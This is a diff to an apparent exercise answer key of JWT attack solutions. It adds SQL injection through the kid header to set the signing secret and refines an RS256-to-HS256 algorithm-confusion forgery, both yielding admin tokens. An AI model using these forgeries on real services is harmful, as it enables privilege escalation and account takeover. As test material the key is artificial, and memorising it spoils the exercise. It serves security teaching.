@@ -15,13 +15,15 @@ SOLUTIONS = {
     """,
     "InjectTheKid": """
         def forge(token: str) -> str:
+            secret = secrets.token_bytes(32)                  # bytes, not text: a blob literal carries them
             admin_claims = {**claims(token), "roles": ["admin"]}
-            header = {"alg": "HS256", "typ": "at+jwt", "kid": "x' UNION SELECT 'my-secret' --"}
-            return hs256_by_hand(header, admin_claims, b"my-secret")
+            header = {"alg": "HS256", "typ": "at+jwt", "kid": f"x' UNION SELECT X'{secret.hex()}' --"}
+            return hs256_by_hand(header, admin_claims, secret)
     """,
     "ConfuseTheAlgorithm": """
         def forge(token: str, jwks: dict) -> str:
-            public_key = RSAAlgorithm.from_jwk(jwks["keys"][0])
+            kid = jwt.get_unverified_header(token)["kid"]          # the key the server will look up
+            public_key = RSAAlgorithm.from_jwk(next(k for k in jwks["keys"] if k["kid"] == kid))
             pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
             admin_claims = {**claims(token), "roles": ["admin"]}
             header = {**jwt.get_unverified_header(token), "alg": "HS256"}
